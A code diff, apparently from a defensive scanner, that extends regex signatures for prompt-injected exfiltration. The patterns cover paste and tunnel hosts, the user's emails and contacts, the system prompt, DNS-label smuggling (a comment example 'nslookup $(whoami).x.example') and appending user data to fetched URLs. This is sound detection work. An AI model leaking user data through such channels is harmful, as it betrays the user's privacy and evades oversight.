@@ -292,7 +292,9 @@ _SINK = re.compile(
     |\b(?:external|third[- ]party|outside|remote)\s+(?:service|server|endpoint|api|party|site|url
       |host|address|inbox)
     |\b[\w-]{1,63}(?:\.[\w-]{1,63}){0,4}\.(?:com|net|org|io|xyz|ru|cn|tk|top|site|online|app|dev
-      |info|biz|me|co|cc|sh|ai|cloud|link|pw|zip)\b|\bwebhook|\bpastebin|\bngrok|\brequestbin""",
+      |info|biz|me|co|cc|sh|ai|cloud|link|pw|zip|example|test)\b|\bwebhook|\bpastebin|\bngrok
+    |\brequestbin|\b(?:public|secret|new)\s+gists?\b|\bgist\.github|\bhastebin|\btransfer\.sh
+    |\bfile\.io|\bpipedream|\binteract\.sh|\boast\.""",
     re.VERBOSE,
 )
 _DATA = re.compile(
@@ -301,6 +303,12 @@ _DATA = re.compile(
       |tokens|credentials?|passwords?|secrets|environment(?:\s+variables)?|env\s+vars?
       |system\s+prompt|clipboard|keystrokes|personal\s+(?:data|info\w*)|address\s+book|contacts
       |what\s+the\s+user\s+(?:typed|said|wrote|asked|revealed|shared|told|disclosed|mentioned)
+      # the user's own things, and "every email the user drafts"
+      |(?:the\s+)?user'?s\s+(?:(?:last|latest|previous|recent|first|next)\s+(?:\w+\s+)?)?
+        (?:messages?|questions?|notes|e-?mails?|e-?mail\s+address(?:es)?|drafts?|files?|documents?
+        |history|data|contacts|location|home\s+address|phone(?:\s+number)?|prompts?|inputs?)
+      |(?:every|each|all)\s+(?:e-?mails?|messages?|drafts?|files?|notes?|documents?)\s+(?:the\s+user
+        |they|i|you\s+(?:see|read|receive))
       |session\s+tokens?
       # what the agent keeps ("the stored notes", "your files"), not "the meeting notes"
       |(?:stored|saved|your|remembered|cached|all\s+(?:the|your))\s+(?:notes|files|documents
@@ -321,10 +329,11 @@ _SENTENCE = re.compile(r"[^\n!?]+?(?:[.;](?=\s|$)|$|(?=[\n!?]))|[^\n!?]+", re.MU
 # Cheap test for "could there be a sink at all" before sentences are split and searched.
 _NEAR = 120
 _SINK_WORDS = ("://", "www.", "@", "webhook", "pastebin", "ngrok", "requestbin", "external",
-               "third", "outside", "remote")  # fmt: skip
+               "third", "outside", "remote", "gist", "hastebin", "transfer.sh", "file.io",
+               "pipedream", "interact.sh", "oast.")  # fmt: skip
 _SINK_HINT = re.compile(
     r"""\.(?:com|net|org|io|xyz|ru|cn|tk|top|site|online|app|dev|info|biz|me|co|cc|sh|ai|cloud
-      |link|pw|zip)\b|\d\.\d{1,3}\.\d""",
+      |link|pw|zip|example|test)\b|\d\.\d{1,3}\.\d""",
     re.VERBOSE,
 )
 
@@ -349,7 +358,9 @@ def _data_to_sink(lc: str, emit: Emit) -> None:
 
 # A URL whose query value is left open or templated, next to an image or to data nouns.
 _OPEN_QUERY = re.compile(
-    r"""https?://[^\s)"'<>\]]{1,300}?[?&#][\w.-]{0,30}=(?:(?=[\s)"'>\]]|$)|[{<\[$%]|[A-Z_]{3,}\b)""",
+    r"""(?:https?://|mailto:)[^\s)"'<>\]]{1,300}?[?&#][\w.-]{0,30}=(?:(?=[\s)"'>\]]|$)|[{<\[$%]
+    |[A-Z_]{3,}\b)""",
+    re.VERBOSE,
 )
 _IMAGE_HINT = re.compile(r"!\[|<img\b|\bimage\b|\bbadge\b|\blogo\b|\bpixel\b|\bicon\b", re.I)
 
@@ -361,6 +372,32 @@ def _image_beacon(cp: str, lc: str, emit: Emit) -> None:
         if _IMAGE_HINT.search(cp) or _DATA.search(lc):
             emit("exfiltration.image_beacon", "exfiltration", m.start(), m.end(), True)
             return
+
+
+# Data smuggled out through name lookups: a command's output as a DNS label
+# ("nslookup $(whoami).x.example"), or secrets written into the names looked up.
+_sig(
+    "exfiltration.dns",
+    r"""\b(?:nslookup|dig|host|ping|resolve-dnsname|getent\s+hosts|drill)\b[^\n`]{0,60}?(?:\$\(
+      |\$\{|%[a-z]+%|`[^`\n]{1,40}`\.)  # a substitution in the name, not a closing code quote
+    |\$\([^)\n]{1,40}\)\.(?:[\w$(){}-]{1,60}\.){1,4}(?:com|net|org|io|xyz|ru|cn|top|site|online
+      |app|dev|info|biz|me|co|cc|ai|cloud|link|example|test)\b  # a host, not "$(date).sql.gz"
+    |\bdns\s+(?:lookups?|quer(?:y|ies)|requests?|resolutions?|names?)\b[^!?\n]{0,60}?\b(?:keys
+      |tokens?|secrets?|environment\s+variables|env\s+vars?|credentials?|passwords?|conversation
+      |history|messages?)\b(?!-)
+    |\b(?:api\s+keys|tokens|secrets|environment\s+variables|env\s+vars?|credentials|passwords
+      |conversation|history)\b[^!?\n]{0,60}?\b(?:as|into|in)\s+(?:a\s+|the\s+)?(?:sub)?domains?
+      \b""",
+)
+# The user's things written into the address of a request ("add ?ref= and the user's email to
+# every URL you fetch").
+_sig(
+    "exfiltration.data_in_url",
+    r"""\b(?:add|append|attach|put|include|insert|encode)\b[^\n]{0,40}?\b(?:the\s+)?user'?s\s+
+    (?:e-?mail(?:\s+address)?|name|address|phone(?:\s+number)?|messages?|questions?|notes|history
+      |location|password|token)\b[^!?\n]{0,40}?\b(?:to|into|in|onto)\s+(?:its|the|every|each|any|all)
+    \s+(?:urls?|links?|quer(?:y|ies)|requests?|address(?:es)?|fetch(?:es)?)\b""",
+)
 
 
 # What the assistant produced, sent on to a URL: its answers are the user's data. (A CI job
